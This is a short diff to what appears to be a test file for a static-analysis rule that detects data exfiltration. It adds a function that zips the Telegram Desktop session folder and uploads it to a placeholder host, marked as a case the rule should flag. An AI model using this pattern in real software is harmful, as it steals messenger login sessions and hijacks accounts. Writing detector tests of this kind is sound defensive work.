@@ -40,3 +40,9 @@ def honest():
     requests.post("https://a.invalid/in", json={"s": status.stdout})
     # ok: exfiltration-vaults
     requests.post("https://a.invalid/in", json={"browser": "chrome", "page": "History"})
+
+
+def login_of_a_messenger():
+    shutil.make_archive("/tmp/kept", "zip", os.path.join(os.environ["APPDATA"], "Telegram Desktop", "tdata"))
+    # ruleid: exfiltration-vaults
+    requests.post("https://a.invalid/", files={"file": open("/tmp/kept.zip", "rb")})
